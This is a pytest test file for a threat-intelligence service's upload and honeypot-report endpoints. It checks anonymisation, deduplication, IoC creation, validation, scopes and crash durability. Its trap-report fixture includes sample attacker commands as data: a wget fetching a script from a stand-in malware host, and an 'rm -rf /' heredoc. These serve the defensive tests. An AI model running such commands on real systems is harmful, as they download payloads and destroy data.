"""threat-cloud threat uploads (POST /api/threats) and trap intelligence (POST /api/trap-intel):
dedup, anonymisation, the effect on IoCs and sightings, validation, scopes, kill -9."""
from __future__ import annotations

import ipaddress
from datetime import datetime, timedelta, timezone

import pytest

from conftest import assert_error_style
from pg_helpers import server_rows
from threat_cloud_helpers import (ADMIN, RELAXED, assert_validation, auth, create_key, iso, lookup, post_threats,
                                  threat_event, upload, write_until_killed)

PLAIN = {**RELAXED, "TC_ANONYMIZE_UPLOADS": "false"}


@pytest.fixture(scope="module")
def tc(module_launch):
    return module_launch("threat-cloud", env=RELAXED)  # anonymisation on (the default)


@pytest.fixture(scope="module")
def plain(module_launch):
    return module_launch("threat-cloud", env=PLAIN)


def db_rows(server, sql, *args):
    return server_rows(server, sql, *args)


# --- uploads ----------------------------------------------------------------------------------


def test_single_upload_is_anonymised_to_16(tc):
    r = post_threats(tc, threat_event(attackSourceIP="203.0.113.77", attackType="Port_Scan",
                                      mitreTechnique="t1046", severity="high"), expect=201)
    data = r.json()["data"]
    assert data["accepted"] == 1 and data["duplicates"] == 0 and data["anonymized"] is True
    assert data["iocs"] == {"created": 1, "updated": 0}
    (event_id,) = data["ids"]
    assert event_id.startswith("evt_")

    found = lookup(tc, "203.0.0.0")
    assert found["found"] is True
    ioc = found["ioc"]
    assert ioc["type"] == "ip" and ioc["threatType"] == "port_scan" and ioc["source"] == "community"
    assert ioc["sourceReliability"] == "C" and ioc["confidence"] == 40 and ioc["reputation"] == 70
    assert "anonymized" in ioc["tags"] and ioc["metadata"] == {"prefixLength": 16}
    assert ioc["mitreTechniques"] == ["T1046"]
    [event] = found["relatedThreats"]
    assert found["relatedThreatsTotal"] == 1
    assert event["id"] == event_id and event["attackSourceIP"] == "203.0.0.0" and event["anonymized"] is True
    assert event["attackType"] == "port_scan" and event["mitreTechniques"] == ["T1046"]
    assert event["sigmaRuleMatched"] == "sshd_brute_force" and event["region"] == "eu-west"
    assert event["industry"] == "finance" and event["severity"] == "high" and event["origin"] == "upload"
    assert event["iocId"] == ioc["id"] and event["campaignId"] is None

    # the full address is stored nowhere
    assert lookup(tc, "203.0.113.77")["found"] is False
    for table in ("threat_events", "iocs", "sightings", "audit_log"):
        rows = db_rows(tc, f"SELECT * FROM {table}")
        assert not any("203.0.113.77" in str(row) for row in rows), table


def test_ipv6_is_anonymised_to_48(tc):
    post_threats(tc, threat_event(attackSourceIP="2001:DB8:ABCD:12:1::7"), expect=201)
    assert lookup(tc, "2001:db8:abcd::")["found"] is True
    assert lookup(tc, "2001:db8:abcd:12:1::7")["found"] is False
    assert lookup(tc, "2001:db8:abcd::")["ioc"]["metadata"] == {"prefixLength": 48}


def test_without_anonymisation_the_address_is_kept(plain):
    data = post_threats(plain, threat_event(attackSourceIP="192.0.2.200"), expect=201).json()["data"]
    assert data["anonymized"] is False
    ioc = lookup(plain, "192.0.2.200")["ioc"]
    assert "anonymized" not in ioc["tags"] and ioc["metadata"] == {}


def test_batch_with_duplicates(plain):
    now = datetime.now(timezone.utc)
    events = [threat_event(attackSourceIP=f"192.0.2.{i}", timestamp=iso(now - timedelta(minutes=i)))
              for i in range(1, 4)]
    r = post_threats(plain, {"events": events + [events[0]]}, expect=201)
    data = r.json()["data"]
    assert data["accepted"] == 3 and data["duplicates"] == 1
    assert len(data["ids"]) == 4 and data["ids"][3] == data["ids"][0]
    again = post_threats(plain, {"events": events}, expect=200).json()["data"]
    assert again["accepted"] == 0 and again["duplicates"] == 3 and again["ids"] == data["ids"][:3]
    assert again["iocs"] == {"created": 0, "updated": 0}
    # the same source with a different time is a new event and a new sighting of the same IoC
    more = post_threats(plain, threat_event(attackSourceIP="192.0.2.1", timestamp=iso(now)), expect=201).json()
    assert more["data"]["iocs"] == {"created": 0, "updated": 1}
    ioc = lookup(plain, "192.0.2.1")
    assert ioc["ioc"]["sightings"] == 2 and ioc["relatedThreatsTotal"] == 2


def test_event_is_a_sighting_of_an_existing_ioc(plain):
    (ioc_id,) = upload(plain, {"value": "198.18.0.9", "confidence": 50, "reputation": 20, "status": "expired",
                               "lastSeen": "2025-01-01T00:00:00Z", "mitreTechniques": ["T1595"]}).json()["data"]["ids"]
    ts = iso(datetime.now(timezone.utc) - timedelta(hours=1))
    post_threats(plain, threat_event(attackSourceIP="198.18.0.9", severity="critical",
                                     mitreTechnique=["T1110.001", "T1078"], timestamp=ts), expect=201)
    ioc = lookup(plain, "198.18.0.9")["ioc"]
    assert ioc["id"] == ioc_id and ioc["sightings"] == 2 and ioc["confidence"] == 55
    assert ioc["reputation"] == 85 and ioc["status"] == "active" and ioc["lastSeen"] == ts
    assert ioc["mitreTechniques"] == ["T1595", "T1078", "T1110.001"]
    assert ioc["firstSeen"] == "2025-01-01T00:00:00Z"
    sightings = plain.get("/api/sightings", params={"iocId": ioc_id}, headers=ADMIN).json()["data"]
    assert [(s["type"], s["source"], s["observedAt"]) for s in sightings] == [("positive", "threat-upload", ts)]


def test_validation_errors(plain):
    future = iso(datetime.now(timezone.utc) + timedelta(hours=1))
    cases = [
        (threat_event(attackSourceIP=None), "attackSourceIP"),
        (threat_event(attackSourceIP="not-an-ip"), "attackSourceIP"),
        (threat_event(attackSourceIP="999.1.1.1"), "attackSourceIP"),
        (threat_event(attackType=None), "attackType"),
        (threat_event(attackType=""), "attackType"),
        (threat_event(attackType="x" * 65), "attackType"),
        (threat_event(mitreTechnique=None), "mitreTechnique"),
        (threat_event(mitreTechnique="lateral movement"), "mitreTechnique"),
        (threat_event(mitreTechnique="T9999"), "mitreTechnique"),
        (threat_event(mitreTechnique=[]), "mitreTechnique"),
        (threat_event(mitreTechnique=["T1110", "T1234.999"]), "mitreTechnique[1]"),
        (threat_event(mitreTechnique=42), "mitreTechnique"),
        (threat_event(sigmaRuleMatched=None), "sigmaRuleMatched"),
        (threat_event(sigmaRuleMatched="a\u0001b"), "sigmaRuleMatched"),
        (threat_event(timestamp=None), "timestamp"),
        (threat_event(timestamp="yesterday"), "timestamp"),
        (threat_event(timestamp=future), "timestamp"),
        (threat_event(region=None), "region"),
        (threat_event(region=7), "region"),
        (threat_event(industry=""), "industry"),
        (threat_event(severity="apocalyptic"), "severity"),
        ({"events": "all of them"}, "events"),
        ({"events": []}, "events"),
        ({"events": [threat_event()] * 1001}, "events"),
        ({"events": [threat_event(), threat_event(), threat_event(region=None)]}, "events[2].region"),
        ({"events": [threat_event(), 5]}, "events[1]"),
    ]
    for body, field in cases:
        assert_validation(plain.request("POST", "/api/threats", json=body, headers=ADMIN), field)
    # nothing of a refused batch is stored
    assert lookup(plain, "198.51.100.23")["found"] is False
    r = plain.request("POST", "/api/threats", data="{", headers={**ADMIN, "Content-Type": "application/json"})
    assert r.status_code == 400
    assert_error_style(plain, r.json())
    r = plain.request("POST", "/api/threats", data="x", headers={**ADMIN, "Content-Type": "text/plain"})
    assert r.status_code == 415


def test_bodies_over_8_mib_are_refused(plain):
    big = {"events": [threat_event(attackSourceIP="192.0.2.99", region="r" * 64, industry="i" * 64,
                                   sigmaRuleMatched="s" * 256)] * 1000}
    big["padding"] = "x" * (8 * 1024 * 1024)
    r = plain.request("POST", "/api/threats", json=big, headers=ADMIN)
    assert r.status_code == 413
    assert_error_style(plain, r.json())


def test_scopes(plain):
    read = create_key(plain, ["read"])["key"]
    write = create_key(plain, ["write"])["key"]
    r = post_threats(plain, threat_event(attackSourceIP="192.0.2.50"), headers=auth(read), expect=403)
    assert_error_style(plain, r.json())
    r = post_threats(plain, threat_event(attackSourceIP="192.0.2.50"), headers={}, expect=401)
    assert r.headers["WWW-Authenticate"].startswith("Bearer")
    post_threats(plain, threat_event(attackSourceIP="192.0.2.50"), headers=auth("nope." + "x" * 40), expect=401)
    post_threats(plain, threat_event(attackSourceIP="192.0.2.50"), headers=auth(write), expect=201)
    entries = plain.get("/api/audit-log", params={"action": "threat.upload"}, headers=ADMIN).json()["data"]
    assert entries[0]["actor"] == write.split(".")[0] and entries[0]["entityType"] == "threat_event"
    assert entries[0]["details"] == {"accepted": 1, "duplicates": 0}


def test_anonymous_uploads_when_allowed_are_limited_per_ip(launch):
    server = launch("threat-cloud", env={**RELAXED, "TC_ANONYMOUS_UPLOADS": "true", "TC_WRITE_RATE_LIMIT": "2/min"})
    for i in range(2):
        r = post_threats(server, threat_event(attackSourceIP=f"10.{i + 1}.0.1"), headers={}, expect=201)
        assert r.json()["data"]["anonymized"] is True
    r = post_threats(server, threat_event(attackSourceIP="10.9.0.1"), headers={}, expect=429)
    assert int(r.headers["Retry-After"]) >= 1
    assert_error_style(server, r.json())
    # a key has buckets of its own
    post_threats(server, threat_event(attackSourceIP="10.9.0.1"), expect=201)
    entries = server.get("/api/audit-log", params={"action": "threat.upload"}, headers=ADMIN).json()["data"]
    assert sorted(e["actor"] for e in entries) == sorted(["anonymous", "anonymous", entries[0]["actor"]])
    # trap intel never accepts anonymous callers
    r = server.request("POST", "/api/trap-intel", json={"trapId": "t", "trapType": "ssh", "attackerIP": "192.0.2.1",
                                                        "timestamp": iso(datetime.now(timezone.utc))})
    assert r.status_code == 401


def test_anonymous_uploads_are_refused_by_default(plain):
    assert post_threats(plain, threat_event(), headers={}, expect=401).status_code == 401


def metric(server, line_start: str) -> float:
    for line in server.get("/metrics").text.splitlines():
        if line.startswith(line_start + " "):
            return float(line.split()[-1])
    return 0.0


def test_events_are_counted_in_the_metrics(launch):
    server = launch("threat-cloud", env=PLAIN)
    events = [threat_event(attackSourceIP="192.0.2.1"), threat_event(attackSourceIP="192.0.2.2")]
    post_threats(server, {"events": events + events[:1]}, expect=201)
    r = server.request("POST", "/api/trap-intel", json=trap_report(), headers=ADMIN)
    assert r.status_code == 201
    name = "threat_cloud_threat_events_total"
    assert metric(server, f'{name}{{origin="upload",result="accepted"}}') == 2
    assert metric(server, f'{name}{{origin="upload",result="duplicate"}}') == 1
    assert metric(server, f'{name}{{origin="trap",result="accepted"}}') == 1


# --- trap intelligence ------------------------------------------------------------------------


# One fixed time for every report of a run: identical reports must stay identical even when
# the calls fall into different seconds.
TRAP_STARTED = datetime.now(timezone.utc) - timedelta(minutes=30)


def trap_report(**overrides) -> dict:
    body = {"trapId": "trap-fra-01", "trapType": "SSH", "attackerIP": "203.0.113.44",
            "timestamp": iso(TRAP_STARTED), "endedAt": iso(TRAP_STARTED + timedelta(minutes=1)), "port": 22,
            "protocol": "tcp",
            "usernames": ["root", "admin"], "commands": ["uname -a", "wget http://malware.example/x.sh"],
            "malwareHashes": ["D41D8CD98F00B204E9800998ECF8427E"], "urls": ["HTTP://Malware.Example/x.sh"],
            "domains": ["c2.malware.example."], "mitreTechniques": ["T1110.001", "T1105"], "region": "eu-central",
            "severity": "high"}
    body.update(overrides)
    return {k: v for k, v in body.items() if v is not None}


def test_trap_report_feeds_events_and_iocs(tc):
    r = tc.request("POST", "/api/trap-intel", json=trap_report(), headers=ADMIN)
    assert r.status_code == 201, r.text
    data = r.json()["data"]
    assert data["accepted"] == 1 and data["anonymized"] is False
    assert data["iocs"] == {"created": 4, "updated": 0}
    found = lookup(tc, "203.0.113.44")  # not anonymised: a trap sees only attackers
    ioc = found["ioc"]
    assert ioc["source"] == "honeypot" and ioc["sourceReliability"] == "B" and ioc["confidence"] == 70
    assert ioc["threatType"] == "honeypot_ssh" and ioc["reputation"] == 70
    [event] = found["relatedThreats"]
    assert event["origin"] == "trap" and event["attackType"] == "honeypot_ssh"
    assert event["mitreTechniques"] == ["T1105", "T1110.001"] and event["sigmaRuleMatched"] is None
    assert event["details"]["trapId"] == "trap-fra-01" and event["details"]["port"] == 22
    assert event["details"]["usernames"] == ["root", "admin"]
    for value, kind in [("d41d8cd98f00b204e9800998ecf8427e", "hash_md5"), ("http://malware.example/x.sh", "url"),
                        ("c2.malware.example", "domain")]:
        got = lookup(tc, value)
        assert got["found"] and got["ioc"]["type"] == kind and got["ioc"]["source"] == "honeypot", value
    # an array of reports; the first is a duplicate of the report above
    r = tc.request("POST", "/api/trap-intel", json=[trap_report(), trap_report(attackerIP="203.0.113.45",
                                                                               attackType="credential_stuffing")],
                   headers=ADMIN)
    assert r.status_code == 201
    data = r.json()["data"]
    assert data["accepted"] == 1 and data["duplicates"] == 1
    assert lookup(tc, "203.0.113.45")["ioc"]["threatType"] == "credential_stuffing"
    assert lookup(tc, "c2.malware.example")["ioc"]["sightings"] == 2
    # a report that differs only in what it names is no duplicate; commands may span lines
    r = tc.request("POST", "/api/trap-intel", json=trap_report(malwareHashes=["a" * 64],
                                                                commands=["cat <<EOF > x\nrm -rf /\nEOF"]),
                   headers=ADMIN)
    assert r.status_code == 201 and r.json()["data"]["accepted"] == 1
    assert lookup(tc, "a" * 64)["ioc"]["type"] == "hash_sha256"
    entries = tc.get("/api/audit-log", params={"action": "trap.report"}, headers=ADMIN).json()["data"]
    assert [e["details"]["accepted"] for e in entries] == [1, 1, 1]


def test_trap_report_errors(tc):
    cases = [
        (trap_report(trapId=None), "trapId"),
        (trap_report(trapType=None), "trapType"),
        (trap_report(attackerIP="example.com"), "attackerIP"),
        (trap_report(timestamp=None), "timestamp"),
        (trap_report(port=70000), "port"),
        (trap_report(endedAt="2001-01-01T00:00:00Z"), "endedAt"),
        (trap_report(malwareHashes=["abc"]), "malwareHashes[0]"),
        (trap_report(urls=["not a url"]), "urls[0]"),
        (trap_report(domains=["exa mple"]), "domains[0]"),
        (trap_report(mitreTechniques=["T0000"]), "mitreTechniques[0]"),
        (trap_report(usernames=["x"] * 101), "usernames"),
        (trap_report(usernames=["root\nadmin"]), "usernames"),
        (trap_report(severity="extreme"), "severity"),
        ([trap_report(), trap_report(attackerIP=None)], "reports[1].attackerIP"),
        ([], "body"),
        ([trap_report()] * 101, "body"),
        ("just text", "body"),
    ]
    for body, field in cases:
        assert_validation(tc.request("POST", "/api/trap-intel", json=body, headers=ADMIN), field)
    read = create_key(tc, ["read"])["key"]
    assert tc.request("POST", "/api/trap-intel", json=trap_report(), headers=auth(read)).status_code == 403
    r = tc.request("POST", "/api/trap-intel", json=trap_report())
    assert r.status_code == 401
    assert_error_style(tc, r.json())


# --- durability -------------------------------------------------------------------------------


def test_kill_9_during_single_uploads_keeps_every_acknowledged_event(launch):
    # Single uploads are the group-committed hot path: many wait on one fsync.
    server = launch("threat-cloud", env=PLAIN)
    ts = iso(datetime.now(timezone.utc) - timedelta(minutes=5))

    def single(n: int, batch_no: int):
        event = threat_event(attackSourceIP=str(ipaddress.IPv4Address((11 << 24) + (n << 20) + batch_no)), timestamp=ts)
        return event, [event]

    acknowledged = write_until_killed(server, "/api/threats", single, writers=16, target=600)
    assert len(acknowledged) >= 100, "too few uploads were acknowledged before the kill"
    again = launch("threat-cloud", env=PLAIN, data_dir=server.data_dir)
    for i in range(0, len(acknowledged), 1000):
        data = post_threats(again, {"events": acknowledged[i:i + 1000]}).json()["data"]
        assert data["accepted"] == 0 and data["duplicates"] == len(acknowledged[i:i + 1000]), data


def test_kill_9_during_batch_uploads_keeps_every_acknowledged_event(launch):
    server = launch("threat-cloud", env=PLAIN)
    ts = iso(datetime.now(timezone.utc) - timedelta(minutes=5))

    def batch(n: int, batch_no: int):
        first = (10 << 24) + (n << 20) + batch_no * 100  # a distinct source per event
        events = [threat_event(attackSourceIP=str(ipaddress.IPv4Address(first + i)), timestamp=ts) for i in range(100)]
        return {"events": events}, events

    acknowledged = write_until_killed(server, "/api/threats", batch)
    assert len(acknowledged) >= 300, "too few batches were acknowledged before the kill"

    again = launch("threat-cloud", env=PLAIN, data_dir=server.data_dir)
    # every acknowledged event is stored: uploading it again is a duplicate ...
    for i in range(0, len(acknowledged), 1000):
        data = post_threats(again, {"events": acknowledged[i:i + 1000]}).json()["data"]
        assert data["accepted"] == 0 and data["duplicates"] == len(acknowledged[i:i + 1000]), data
    # ... and its source is an IoC
    missing = []
    for i in range(0, len(acknowledged), 1000):
        values = [e["attackSourceIP"] for e in acknowledged[i:i + 1000]]
        r = again.request("POST", "/api/iocs/lookup", json={"values": values}, headers=ADMIN)
        missing += [x["value"] for x in r.json()["data"]["results"] if not x["found"]]
    assert missing == [], f"{len(missing)} acknowledged sources lost, e.g. {missing[:5]}"
    total = again.get("/api/stats", headers=ADMIN).json()["data"]["threats"]["total"]
    assert total >= len(acknowledged) and total % 100 == 0  # no partial batch
